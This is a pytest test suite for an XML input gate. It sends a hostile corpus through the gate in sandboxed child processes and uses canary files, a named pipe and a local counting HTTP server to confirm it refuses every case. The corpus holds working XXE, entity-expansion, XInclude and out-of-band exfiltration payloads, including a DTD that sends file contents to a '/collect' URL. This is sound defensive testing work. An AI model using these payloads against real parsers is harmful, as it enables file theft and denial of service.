"""R7 (docs/guarantees.md): the hostile XML corpus against the inbound gate, `adapters.xml.admit`.

Every case runs `admit` in a child process of its own, under an address-space limit and a timeout, so that
an expansion bomb, a crash or a blocked read fails one test instead of taking pytest down. The child prints
one JSON line: accepted, refused (code and reason) or crashed (traceback), plus every message libxml2 logged.

The corpus is armed with three tripwires:

- file targets are a named pipe with no writer: if libxml2 ever opens one for reading, the child blocks and
  the timeout fails the case; regular canary files hold a random secret that must never show up in the
  child's output (and the canary DTD, if ever parsed, loads a file that does not exist), and a missing file
  would leave an IO_ENOENT message in libxml2's log;
- every http URL names a local server that counts each connection; the count must stay at zero;
- libxml2's log must hold no IO_* message: it never even tried to open a file or a URL.

The schema is a tiny fixture of our own (tests/data/gate/note.xsd), not an agency's.
"""

from __future__ import annotations

import http.server
import json
import os
import secrets
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from adapters.xml import BAD_SIGNATURE, ENTITY, MAX_MESSAGE_BYTES, REFUSAL_CODES, UNSIGNED

if not hasattr(os, "mkfifo"):
    pytest.skip("the tripwires need named pipes and resource limits (POSIX)", allow_module_level=True)

REPO = Path(__file__).resolve().parents[1]
NOTE_XSD = Path(__file__).resolve().parent / "data" / "gate" / "note.xsd"
NOTE_NS = "urn:tradehub:test:note"
NOTE_ROOT = f"{{{NOTE_NS}}}note"
MEMORY_LIMIT = 512 * 1024 * 1024
TIMEOUT = 10  # seconds; a child that runs into it has blocked on the pipe or is expanding something
ACCEPTED = "accepted"
XI_2001 = "http://www.w3.org/2001/XInclude"
XI_2003 = "http://www.w3.org/2003/XInclude"

# Runs in the child: limit memory first, then import the gate and feed it stdin.
RUNNER = r"""
import json, resource, sys, traceback

spec = json.loads(sys.argv[1])
resource.setrlimit(resource.RLIMIT_AS, (spec["memory"], spec["memory"]))
sys.path.insert(0, spec["repo"])

from lxml import etree

from adapters import xml

logged = []


class Collect(etree.PyErrorLog):
    def receive(self, entry):
        logged.append({"type": entry.type_name, "message": entry.message})


etree.use_global_python_log(Collect())
data = sys.stdin.buffer.read()
if spec["as"] == "str":
    data = data.decode("utf-8")
elif spec["as"] == "bytearray":
    data = bytearray(data)
elif spec["as"] == "memoryview":
    data = memoryview(data)
elif spec["as"] == "memoryview-u64":
    data = memoryview(data).cast("Q")
options = {} if spec["limit"] is None else {"limit": spec["limit"]}
try:
    root = xml.admit(data, xml.Schema(spec["schema"], spec["root"]), **options)
except xml.Refused as refused:
    result = {"outcome": "refused", "code": refused.code, "reason": refused.reason}
except BaseException:
    result = {"outcome": "crashed", "traceback": traceback.format_exc()}
else:
    result = {"outcome": "accepted", "root": root.tag,
              "xml": etree.tostring(root.getroottree(), encoding="unicode")}
result["libxml2"] = logged
sys.stdout.write(json.dumps(result))
"""


# --- the tripwires --------------------------------------------------------------------------------------------


class _CountingHandler(http.server.BaseHTTPRequestHandler):
    """Counts every connection, answers anything with a DTD that would leak a canary if it were ever used."""

    def handle(self) -> None:
        self.server.hits.append(f"connection from {self.client_address}")
        super().handle()

    def do_GET(self) -> None:
        self.server.hits.append(f"{self.command} {self.path}")
        body = self.server.body.encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/xml-dtd")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_HEAD = do_PUT = do_GET

    def log_message(self, *args) -> None:
        pass


@dataclass
class Trap:
    root: Path
    secret: str  # in the canary file and the canary DTD
    http_secret: str  # in whatever the HTTP server serves
    http: str
    hits: list[str]  # the server's record of every connection and request, shared

    @property
    def values(self) -> dict[str, str]:
        pipe, canary = self.root / "pipe", self.root / "canary.txt"
        return {
            "{pipe}": str(pipe),
            "{pipe_url}": pipe.as_uri(),
            "{canary}": str(canary),
            "{canary_url}": canary.as_uri(),
            "{canary_dtd}": str(self.root / "canary.dtd"),
            "{absent}": str(self.root / "absent" / "nothing.dtd"),
            "{http}": self.http,
        }


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trap]:
    root = tmp_path_factory.mktemp("gate-trap")
    os.mkfifo(root / "pipe")  # no writer, ever: opening it for reading blocks
    secret, http_secret = f"CANARY-FILE-{secrets.token_hex(12)}", f"CANARY-HTTP-{secrets.token_hex(12)}"
    (root / "canary.txt").write_text(secret)
    # Parsed, the canary DTD would try to load a missing file, which libxml2 logs (IO_ENOENT).
    (root / "canary.dtd").write_text(f'<!ENTITY secret "{secret}">\n'
                                     f'<!ENTITY % tripwire SYSTEM "{root / "absent" / "tripwire.dtd"}"> %tripwire;\n')
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _CountingHandler)
    server.daemon_threads = True
    http_base = f"http://127.0.0.1:{server.server_address[1]}"
    server.hits = []
    server.body = (f"<!ENTITY secret \"{http_secret}\">\n"
                   f"<!ENTITY % all \"<!ENTITY send SYSTEM '{http_base}/collect?%file;'>\"> %all;\n")
    thread = threading.Thread(target=server.serve_forever, name="gate-http-tripwire", daemon=True)
    thread.start()
    try:
        yield Trap(root=root, secret=secret, http_secret=http_secret, http=http_base, hits=server.hits)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
    assert server.hits == [], f"the gate fetched from the network: {server.hits}"


def run_gate(trap: Trap, data: bytes, *, as_: str = "bytes", limit: int | None = None) -> dict:
    """`admit(data)` in a child process; fails the test on a hang, a crash, a leak or any fetch attempt."""
    spec = {"schema": str(NOTE_XSD), "root": NOTE_ROOT, "as": as_, "limit": limit, "memory": MEMORY_LIMIT,
            "repo": str(REPO)}
    env = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
    earlier_hits = len(trap.hits)  # each case answers for its own requests; the module checks the total
    try:
        done = subprocess.run([sys.executable, "-I", "-c", RUNNER, json.dumps(spec)], input=data,
                              capture_output=True, timeout=TIMEOUT, cwd=trap.root, env=env)
    except subprocess.TimeoutExpired:
        done = None  # fail outside the handler, without the runner's source in the report
    if done is None:
        pytest.fail(f"admit did not return within {TIMEOUT}s: it blocked (reading the named pipe?) or blew up",
                    pytrace=False)
    output = done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
    assert done.returncode == 0, f"the child died (exit status {done.returncode}):\n{output[-3000:]}"
    for secret in (trap.secret, trap.http_secret):
        assert secret not in output, "a canary's content reached the child's output: a file or URL was read"
    assert trap.hits[earlier_hits:] == [], f"the gate fetched from the network: {trap.hits[earlier_hits:]}"
    result = json.loads(done.stdout)
    assert result["outcome"] != "crashed", result["traceback"]
    attempts = [entry for entry in result["libxml2"] if entry["type"].startswith("IO_")]
    assert attempts == [], f"libxml2 tried to load an external resource: {attempts}"
    if result["outcome"] == "refused":
        assert result["code"] in REFUSAL_CODES
        assert result["reason"].strip(), "a refusal must say why"
        assert "Traceback" not in result["reason"] and 'File "' not in result["reason"], result["reason"]
    else:
        assert result["root"] == NOTE_ROOT
        for marker in ("<!DOCTYPE", "<!ENTITY", "<?xml-stylesheet", XI_2001, XI_2003):
            assert marker not in result["xml"], f"an accepted tree still carries {marker}: {result['xml'][:500]}"
    return result


def outcome(result: dict) -> str:
    return result["code"] if result["outcome"] == "refused" else ACCEPTED


# --- the corpus -----------------------------------------------------------------------------------------------


def note(to: str = "a", *, attrs: str = "", prolog: str = "", extra_ns: str = "") -> str:
    return f'{prolog}<note xmlns="{NOTE_NS}"{extra_ns}{attrs}><to>{to}</to><body>b</body></note>'


def note_bytes(to: bytes = b"a", *, attrs: bytes = b"", prolog: bytes = b"") -> bytes:
    return prolog + f'<note xmlns="{NOTE_NS}"'.encode() + attrs + b"><to>" + to + b"</to><body>b</body></note>"


def xinclude(namespace: str, href: str, parse: str = "text") -> str:
    return note(f'<xi:include href="{href}" parse="{parse}"/>', extra_ns=f' xmlns:xi="{namespace}"')


LAUGHS = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = note("&lol9;", prolog=f'<?xml version="1.0"?><!DOCTYPE note [{LAUGHS}]>')
QUADRATIC = note("&big;" * 150_000, prolog=f'<!DOCTYPE note [<!ENTITY big "{"x" * 100_000}">]>')
DECL_UTF8 = '<?xml version="1.0" encoding="UTF-8"?>'
XSI = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


@dataclass(frozen=True)
class Case:
    id: str
    document: str | bytes  # str is filled in and then encoded; bytes are filled in as bytes
    expected: frozenset[str]
    encoding: str = "utf-8"
    as_: str = "bytes"
    limit: int | None = None

    def data(self, trap: Trap) -> bytes:
        document = self.document
        for key, value in trap.values.items():
            document = (document.replace(key, value) if isinstance(document, str)
                        else document.replace(key.encode(), value.encode()))
        return document.encode(self.encoding) if isinstance(document, str) else document


def case(id: str, document: str | bytes, *expected: str, **options) -> Case:
    return Case(id, document, frozenset(expected), **options)


def deep(levels: int) -> str:
    return "<a>" * levels + "</a>" * levels


CORPUS = [
    # Controls: the gate does accept good documents, and refuses the near misses with the right code.
    case("valid", note(), ACCEPTED),
    case("valid-with-declaration-and-comment", note(prolog=f"{DECL_UTF8}<!-- a comment -->"), ACCEPTED),
    case("valid-utf16-with-bom", note(prolog='<?xml version="1.0" encoding="UTF-16"?>'), ACCEPTED, encoding="utf-16"),
    case("valid-as-bytearray", note(), ACCEPTED, as_="bytearray"),
    case("valid-as-memoryview", note(), ACCEPTED, as_="memoryview"),
    case("unexpected-root", '<memo xmlns="urn:tradehub:test:note"/>', "unexpected-root"),
    case("unexpected-root-namespace", '<note><to>a</to><body>b</body></note>', "unexpected-root"),
    case("schema-invalid-missing-child", f'<note xmlns="{NOTE_NS}"><to>a</to></note>', "schema-invalid"),
    # Entity expansion. libxml2 stops the expansion itself (amplification limit) before lxml returns a tree.
    case("billion-laughs", BILLION_LAUGHS, "doctype"),
    case("billion-laughs-in-attribute", note(attrs=' id="&lol9;"', prolog=f"<!DOCTYPE note [{LAUGHS}]>"), "doctype"),
    case("billion-laughs-utf16", BILLION_LAUGHS.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>'), "doctype",
         encoding="utf-16"),
    case("quadratic-blowup", QUADRATIC, "doctype"),
    case("parameter-entity-laughs",
         note(prolog='<!DOCTYPE note [<!ENTITY % l0 "lol"><!ENTITY % l1 "%l0;%l0;%l0;%l0;"> %l1;]>'), "doctype"),
    case("doctype-without-subset", note(prolog="<!DOCTYPE note>"), "doctype"),
    case("undeclared-entity-without-dtd", note("&xxe;"), "not-well-formed"),
    # XXE: external general entities.
    case("xxe-file-path", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "{pipe}">]>'), "doctype"),
    case("xxe-file-url", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "{pipe_url}">]>'), "doctype"),
    case("xxe-relative-path", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "pipe">]>'), "doctype"),
    case("xxe-public-id", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe PUBLIC "-//X//Y//EN" "{pipe}">]>'),
         "doctype"),
    case("xxe-canary-file", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "{canary}">]>'), "doctype"),
    case("xxe-absent-file", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "{absent}">]>'), "doctype"),
    case("xxe-in-attribute", note(attrs=' id="&xxe;"', prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "{pipe}">]>'),
         "doctype"),
    case("xxe-http", note("&xxe;", prolog='<!DOCTYPE note [<!ENTITY xxe SYSTEM "{http}/xxe">]>'), "doctype"),
    # External DTD subsets.
    case("external-dtd-file-path", note(prolog='<!DOCTYPE note SYSTEM "{pipe}">'), "doctype"),
    case("external-dtd-file-url", note(prolog='<!DOCTYPE note SYSTEM "{pipe_url}">'), "doctype"),
    case("external-dtd-relative-path", note(prolog='<!DOCTYPE note SYSTEM "pipe">'), "doctype"),
    case("external-dtd-public-id", note(prolog='<!DOCTYPE note PUBLIC "-//X//DTD Y//EN" "{pipe}">'), "doctype"),
    case("external-dtd-with-internal-subset", note(prolog='<!DOCTYPE note SYSTEM "{pipe}" [<!ENTITY a "b">]>'),
         "doctype"),
    case("external-dtd-canary-file", note("&secret;", prolog='<!DOCTYPE note SYSTEM "{canary_dtd}">'), "doctype"),
    case("external-dtd-absent-file", note(prolog='<!DOCTYPE note SYSTEM "{absent}">'), "doctype"),
    case("external-dtd-http", note("&secret;", prolog='<!DOCTYPE note SYSTEM "{http}/note.dtd">'), "doctype"),
    # Parameter entities, including the out-of-band and error-based exfiltration patterns.
    case("parameter-entity-file", note(prolog='<!DOCTYPE note [<!ENTITY % ext SYSTEM "{pipe}"> %ext;]>'), "doctype"),
    case("parameter-entity-file-url", note(prolog='<!DOCTYPE note [<!ENTITY % ext SYSTEM "{pipe_url}"> %ext;]>'),
         "doctype"),
    case("parameter-entity-canary-dtd",
         note("&secret;", prolog='<!DOCTYPE note [<!ENTITY % ext SYSTEM "{canary_dtd}"> %ext;]>'), "doctype"),
    case("parameter-entity-http", note(prolog='<!DOCTYPE note [<!ENTITY % ext SYSTEM "{http}/pe.dtd"> %ext;]>'),
         "doctype"),
    case("parameter-entity-oob-exfiltration",
         note("&send;", prolog='<!DOCTYPE note [<!ENTITY % file SYSTEM "{canary_url}">'
                               '<!ENTITY % dtd SYSTEM "{http}/oob.dtd"> %dtd; %all;]>'), "doctype"),
    case("parameter-entity-error-based-exfiltration",
         note(prolog='<!DOCTYPE note [<!ENTITY % file SYSTEM "{canary}">'
                     '<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'{absent}/%file;\'>"> %eval; %error;]>'),
         "doctype"),
    # XInclude, both namespaces; the gate refuses the element and never calls xinclude().
    case("xinclude-2001-file", xinclude(XI_2001, "{pipe}"), "xinclude"),
    case("xinclude-2003-file", xinclude(XI_2003, "{pipe}"), "xinclude"),
    case("xinclude-2001-file-url", xinclude(XI_2001, "{pipe_url}", parse="xml"), "xinclude"),
    case("xinclude-2001-relative", xinclude(XI_2001, "pipe"), "xinclude"),
    case("xinclude-2001-canary", xinclude(XI_2001, "{canary}"), "xinclude"),
    case("xinclude-2001-http", xinclude(XI_2001, "{http}/include.xml"), "xinclude"),
    case("xinclude-2003-http", xinclude(XI_2003, "{http}/include.xml"), "xinclude"),
    case("xinclude-default-namespace", note(f'<include xmlns="{XI_2001}" href="{{pipe}}" parse="text"/>'),
         "xinclude"),
    case("xinclude-as-root", f'<xi:include xmlns:xi="{XI_2001}" href="{{pipe}}" parse="text"/>', "xinclude"),
    # schemaLocation hints are never followed: the document is judged by our schema alone.
    case("xsi-schema-location-http", note(attrs=f'{XSI} xsi:schemaLocation="{NOTE_NS} {{http}}/note.xsd"'),
         ACCEPTED, "schema-invalid"),
    case("xsi-no-namespace-schema-location-http",
         note(attrs=f'{XSI} xsi:noNamespaceSchemaLocation="{{http}}/note.xsd"'), ACCEPTED, "schema-invalid"),
    case("xsi-schema-location-file", note(attrs=f'{XSI} xsi:schemaLocation="{NOTE_NS} {{pipe}}"'),
         ACCEPTED, "schema-invalid"),
    # An xml-stylesheet PI is inert: the parser drops every PI and nothing fetches it. The gate does not refuse
    # it (there is no refusal code for it), so the case checks it is accepted without the PI and without a fetch.
    case("xml-stylesheet-http", note(prolog='<?xml-stylesheet type="text/xsl" href="{http}/evil.xsl"?>'), ACCEPTED),
    case("xml-stylesheet-file", note(prolog='<?xml-stylesheet type="text/xsl" href="{pipe}"?>'), ACCEPTED),
    # Size.
    case("oversize-default-limit", note() + " " * (MAX_MESSAGE_BYTES + 1 - len(note())), "too-large"),
    case("oversize-10-mib", note() + " " * (10 * 1024 * 1024), "too-large"),
    case("memoryview-of-wide-items-counts-bytes", note().ljust(512).encode(), "too-large", as_="memoryview-u64",
         limit=200),
    # Depth: libxml2 allows 256 levels without huge_tree.
    case("deep-10000", deep(10_000), "too-deep"),
    case("deep-257-just-over-libxml2-limit", deep(257), "too-deep"),
    case("deep-256-at-libxml2-limit", deep(256), "unexpected-root"),
    case("deep-10000-inside-note", note(deep(10_000)), "too-deep"),
    # Encodings.
    case("unknown-declared-encoding", note(prolog='<?xml version="1.0" encoding="x-klingon"?>'), "bad-encoding"),
    case("empty-declared-encoding", note(prolog='<?xml version="1.0" encoding=""?>'), "bad-encoding"),
    case("invalid-utf8-under-utf8-declaration", note_bytes(b"\xff\xfe", prolog=DECL_UTF8.encode()), "bad-encoding"),
    case("invalid-utf8-undeclared", note_bytes(b"\xc3\x28"), "bad-encoding"),
    case("latin1-bytes-under-utf8-declaration", note_bytes("café".encode("latin-1"), prolog=DECL_UTF8.encode()),
         "bad-encoding"),
    case("overlong-utf8", note_bytes(b"\xc0\xaf"), "bad-encoding"),
    case("utf8-encoded-surrogate", note_bytes(b"\xed\xa0\x80"), "bad-encoding"),
    case("truncated-utf8-sequence", note_bytes(b"\xe2\x82"), "bad-encoding"),
    case("utf16-declaration-with-utf8-bytes", note(prolog='<?xml version="1.0" encoding="UTF-16"?>'), "bad-encoding"),
    case("utf16le-declaration-with-utf8-bytes", note(prolog='<?xml version="1.0" encoding="utf-16le"?>'),
         "bad-encoding"),
    case("utf32-declaration-with-utf8-bytes", note(prolog='<?xml version="1.0" encoding="UTF-32"?>'), "bad-encoding"),
    case("utf16-bom-and-declaration-saying-utf8-then-utf8-body",
         DECL_UTF8.encode("utf-16") + note().encode("utf-8"), "bad-encoding"),
    # Messages quote names from the document: those names must not steer the classification.
    case("mismatched-tag-named-encoding", "<encoding></x>", "not-well-formed"),
    case("mismatched-tag-named-depth-huge", "<depthhuge></x>", "not-well-formed"),
    # NUL and other control characters, raw and as character references.
    case("nul-in-text", note("a\x00b"), "not-well-formed"),
    case("nul-in-attribute-value", note(attrs=' id="a\x00b"'), "not-well-formed"),
    case("nul-in-element-name", note("<t\x00o/>"), "not-well-formed"),
    case("nul-in-attribute-name", note(attrs=' i\x00d="a"'), "not-well-formed"),
    case("nul-in-utf16-text", note("a\x00b"), "not-well-formed", encoding="utf-16"),
    case("nul-bytes-only", b"\x00\x00\x00\x00", "not-well-formed"),
    case("soh-0x01-in-text", note("a\x01b"), "not-well-formed"),
    case("backspace-0x08-in-element-name", note("<t\x08o/>"), "not-well-formed"),
    case("vertical-tab-0x0b-in-text", note("a\x0bb"), "not-well-formed"),
    case("escape-0x1b-in-text", note("a\x1b[31mred"), "not-well-formed"),
    case("unit-separator-0x1f-in-attribute-value", note(attrs=' id="a\x1fb"'), "not-well-formed"),
    case("char-ref-0", note("&#0;"), "not-well-formed"),
    case("char-ref-1", note("&#1;"), "not-well-formed"),
    case("char-ref-x1-in-attribute", note(attrs=' id="&#x1;"'), "not-well-formed"),
    case("char-ref-xb", note("&#xB;"), "not-well-formed"),
    case("char-ref-xfffe", note("&#xFFFE;"), "not-well-formed"),
    case("char-ref-surrogate", note("&#xD800;"), "not-well-formed"),
    case("char-ref-beyond-unicode", note("&#x110000;"), "not-well-formed"),
    case("char-ref-1-under-xml-1.1", note("&#1;", prolog='<?xml version="1.1"?>'), "not-well-formed"),
    # Not XML at all.
    case("empty", b"", "empty"),
    case("whitespace-only", b" \n\t\r \n", "empty"),
    case("json", '{"note": {"to": "a", "body": "b"}}', "not-well-formed"),
    case("str-instead-of-bytes", note(), "bad-encoding", as_="str"),
]


def test_corpus_ids_are_unique_and_every_reachable_code_is_exercised():
    assert len({case.id for case in CORPUS}) == len(CORPUS)
    exercised = set().union(*(case.expected for case in CORPUS))
    # ENTITY is unreachable: an entity reference needs a DTD, and any DTD is refused as DOCTYPE first. The
    # signature's codes come after the gate, from adapters.signing: tests/test_signing.py exercises them.
    gate = set(REFUSAL_CODES) - {ENTITY, UNSIGNED, BAD_SIGNATURE}
    assert exercised >= gate | {ACCEPTED}, gate - exercised


@pytest.mark.parametrize("case", CORPUS, ids=[case.id for case in CORPUS])
def test_hostile_corpus(case: Case, trap: Trap):
    result = run_gate(trap, case.data(trap), as_=case.as_, limit=case.limit)
    assert outcome(result) in case.expected, (
        f"expected {' or '.join(sorted(case.expected))}, got {outcome(result)}: {result.get('reason', '')}")


@pytest.mark.parametrize("limit", [None, 300], ids=["default-limit", "custom-limit"])
def test_size_limit_is_inclusive(limit: int | None, trap: Trap):
    size = MAX_MESSAGE_BYTES if limit is None else limit
    exactly = (note() + " " * (size - len(note()))).encode()
    assert len(exactly) == size
    assert outcome(run_gate(trap, exactly, limit=limit)) == ACCEPTED
    refused = run_gate(trap, exactly + b" ", limit=limit)
    assert outcome(refused) == "too-large"
    assert str(size + 1) in refused["reason"] and str(size) in refused["reason"]


def test_a_custom_limit_is_not_the_default(trap: Trap):
    small = (note() + " " * 100).encode()
    assert outcome(run_gate(trap, small)) == ACCEPTED
    assert outcome(run_gate(trap, small, limit=len(small) - 1)) == "too-large"
    large = note() + " " * MAX_MESSAGE_BYTES
    assert outcome(run_gate(trap, large.encode(), limit=len(large))) == ACCEPTED
